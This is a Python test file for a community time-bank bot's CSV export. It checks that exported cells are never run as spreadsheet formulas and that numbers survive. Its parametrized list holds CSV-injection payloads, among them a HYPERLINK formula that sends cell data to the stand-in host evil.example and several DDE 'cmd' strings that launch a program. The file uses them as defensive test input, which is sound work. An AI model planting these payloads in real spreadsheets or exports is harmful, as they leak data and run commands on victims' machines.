"""Proves that a table of ours runs nothing in a spreadsheet, keeps its numbers, and comes back as it was."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.table_file import table_file
from tests.stories.favours import agree, say_how_long
from tests.stories.neighbours import Street

# What spreadsheets and the tools around them begin to run at, in every width.
DANGEROUS = "=+-@＝＋－＠|%\t\r\n\x00"


def opened(content: bytes, delimiter: str = ",") -> list[list[str | float]]:
    """Opens a file as a spreadsheet does: what is not in quotation marks is a number."""
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=delimiter, quoting=csv.QUOTE_NONNUMERIC))


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+44 7700 900123",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\x00=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        " =1+1",
        "\u200b=1+1",
        "\u202e=1+1",
        '"=1+1',
        '","=1+1',
        ";=1+1",
    ],
)
def test_no_cell_is_run(attack: str) -> None:
    """However somebody writes a formula, it comes out as text with an apostrophe, or as harmless text."""
    for language, delimiter in (("en", ","), ("es", ";")):
        file = table_file("hours", ["What", "Minutes"], [[attack, -30]], language=language)
        [heading, [cell, minutes]] = opened(file.content, delimiter)
        assert heading == ["What", "Minutes"]
        assert isinstance(cell, str) and cell[0] not in DANGEROUS
        assert minutes == -30.0


@given(st.lists(st.tuples(st.text(), st.integers(-(10**9), 10**9)), max_size=20))
def test_any_words_and_any_numbers_come_back(rows: list[tuple[str, int]]) -> None:
    """Whatever is in them, cells stay in their columns, text begins harmlessly, and numbers are the same."""
    file = table_file("hours", ["What", "Minutes"], rows, language="en")
    _, *found = opened(file.content)
    assert [minutes for _, minutes in found] == [minutes for _, minutes in rows]
    for cell, _ in found:
        assert isinstance(cell, str)
        assert cell[:1] not in DANGEROUS or cell == ""
        assert not {"\n", "\r", "\x00", "\t"} & set(cell)


def test_numbers_days_and_nothing_are_what_they_are() -> None:
    """A number below zero is no formula, a decimal keeps its places, a day is written for machines."""
    row = [-120, Decimal("1.50"), date(2026, 11, 24), None]
    file = table_file("x", ["=a", "b", "c", "d"], [row], language="en")
    assert file.name == "x.csv"
    assert file.content.decode("utf-8-sig") == '"\'=a","b","c","d"\r\n-120,1.50,"2026-11-24",""\r\n'


def test_a_row_that_does_not_fit_is_a_mistake() -> None:
    """A row with a cell too many would put every cell after it under the wrong heading."""
    with pytest.raises(ValueError, match="columns"):
        table_file("x", ["a"], [["b", "c"]], language="en")


async def test_members_get_their_hours_as_a_table(street: Street) -> None:
    """After an exchange both can have all their entries as a file, in their own language, with the balance
    after each; a name that is a formula is text in it.
    """
    ada, ben = await street.neighbour("=SUM(A1)"), await street.neighbour("Ben", "shopping")
    await agree(ada, ben)
    await say_how_long(street, (ada, "1 hour"), (ben, "1 hour"))
    await ada.taps_data("lang:es")
    await ada.says("/statement")
    message = await ada.hears("tus 2 líneas")
    assert message.attachment is not None and message.attachment.file_name == "horas.csv"
    heading, first, last = opened(message.attachment.bytes, ";")
    assert heading == ["Día", "Qué pasó", "Minutos", "Saldo en minutos"]
    assert (first[2:], last[2:]) == ([120.0, 120.0], [-60.0, 60.0])
    assert first[0] == "2026-11-23" and "Ben" in str(last[1])
    await ben.says("/hours")
    await ben.taps("All of it as a table")
    message = await ben.hears("your 2 entries as a table")
    assert message.attachment is not None
    _, _, last = opened(message.attachment.bytes)
    assert last[2:] == [60.0, 180.0] and str(last[1]).startswith("You helped =SUM(A1)")
